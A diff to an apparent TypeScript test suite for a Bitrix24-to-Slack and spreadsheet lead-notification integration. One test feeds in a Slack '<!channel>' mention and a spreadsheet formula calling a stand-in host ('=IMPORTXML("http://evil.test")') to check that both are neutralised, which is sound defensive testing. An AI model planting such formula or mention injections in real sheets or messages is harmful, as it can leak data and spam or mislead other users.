@@ -33,6 +33,21 @@ describe('the examples', () => {
 	});
 });
 
+test('a new lead is told on Slack, with name and phone', async () => {
+	const { portal, services } = world;
+	const id = await world.activate('new-lead-to-slack');
+	portal.leads.add({ ...ACME, ID: 1000990, NAME: 'Carol', LAST_NAME: 'Cook & Sons' });
+	await world.succeeded(id, 1);
+	portal.leads.add({ ID: 1000991, TITLE: 'Nameless' });
+	await world.succeeded(id, 2);
+	await world.client.deactivate(id);
+	const link = (lead: number) => `<https://some-domain.bitrix24.com/crm/lead/details/${lead}/|Open it>`;
+	expect(services.messages.map(({ text }) => text)).toEqual([
+		`New lead Acme Ltd (#1000990): Carol Cook &amp; Sons, +1 202 555 0143\n${link(1000990)}`,
+		`New lead Nameless (#1000991): no name and no phone\n${link(1000991)}`,
+	]);
+});
+
 describe('a deleted lead', () => {
 	test('is told on Slack: who, which lead, which portal, and where to find it', async () => {
 		const { portal, services } = world;
@@ -90,7 +105,7 @@ describe('the lead archive', () => {
 		const [message] = services.messages;
 		expect(message?.text.split('\n')).toEqual([
 			"Lead 'Acme Ltd' (#1000983) was deleted by Vadim Valeev on some-domain.bitrix24.com",
-			'Acme &amp; Sons, +1 202 555 0143, owner Olga Orlova, 2500 EUR',
+			'Acme &amp; Sons, +1 202 555 0143, owner user #15, 2500 EUR',
 			recycleBin,
 		]);
 		expect(services.rows).toEqual([
@@ -101,7 +116,7 @@ describe('the lead archive', () => {
 				'Acme Ltd',
 				'Acme & Sons',
 				'+1 202 555 0143',
-				'Olga Orlova',
+				'user #15',
 				'2500 EUR',
 				'Vadim Valeev',
 				'some-domain.bitrix24.com',
@@ -121,25 +136,12 @@ describe('the lead archive', () => {
 		expect(services.messages).toEqual([{ channel: '#leads', text }]);
 	});
 
-	test('knows the owner by number where the app may not look people up', async () => {
-		const { portal, services } = world;
-		const { scope } = portal.app;
-		portal.app.scope = ['crm'];
-		const { ID } = portal.leads.add({ TITLE: 'Small', ASSIGNED_BY_ID: '15' });
-		await world.succeeded(keep, 3);
-		portal.leads.delete(ID);
-		await world.succeeded(told, 3);
-		expect(services.messages[0]?.text).toContain(`Lead 'Small' (#${ID})`);
-		expect(services.messages[0]?.text).toContain('\nowner user #15\n');
-		portal.app.scope = scope;
-	});
-
 	test('lets nobody reach others through a lead’s title: no mention on Slack, no formula in the sheet', async () => {
 		const { portal, services } = world;
 		const { ID } = portal.leads.add({ TITLE: '<!channel>', COMPANY_TITLE: '=IMPORTXML("http://evil.test")' });
-		await world.succeeded(keep, 4);
+		await world.succeeded(keep, 3);
 		portal.leads.delete(ID);
-		await world.succeeded(told, 4);
+		await world.succeeded(told, 3);
 		expect(services.messages[0]?.text).toContain("'&lt;!channel>'");
 		expect([services.rows[1]?.[3], services.valueInputOption]).toEqual(['=IMPORTXML("http://evil.test")', 'RAW']);
 	});
@@ -166,11 +168,11 @@ describe('the queue', () => {
 		expect(services.messages.map(({ text }) => text.split('\n'))).toEqual([
 			[
 				`Lead 'Acme Ltd' (#1000983) was deleted by Vadim Valeev on ${where}`,
-				'Acme &amp; Sons, +1 202 555 0143, owner Olga Orlova, 2500 EUR',
+				'Acme &amp; Sons, +1 202 555 0143, owner user #15, 2500 EUR',
 				`<https://${where}/crm/recyclebin/|Recycle bin>`,
 			],
 		]);
-		expect(services.rows[1]).toEqual(expect.arrayContaining(['Acme Ltd', 'Olga Orlova', 'Vadim Valeev']));
+		expect(services.rows[1]).toEqual(expect.arrayContaining(['Acme Ltd', 'user #15', 'Vadim Valeev']));
 		await queueIsEmpty();
 		expect(portal.deliveries.filter(({ event }) => event === 'ONCRMLEADDELETE')).toEqual([]);
 	});
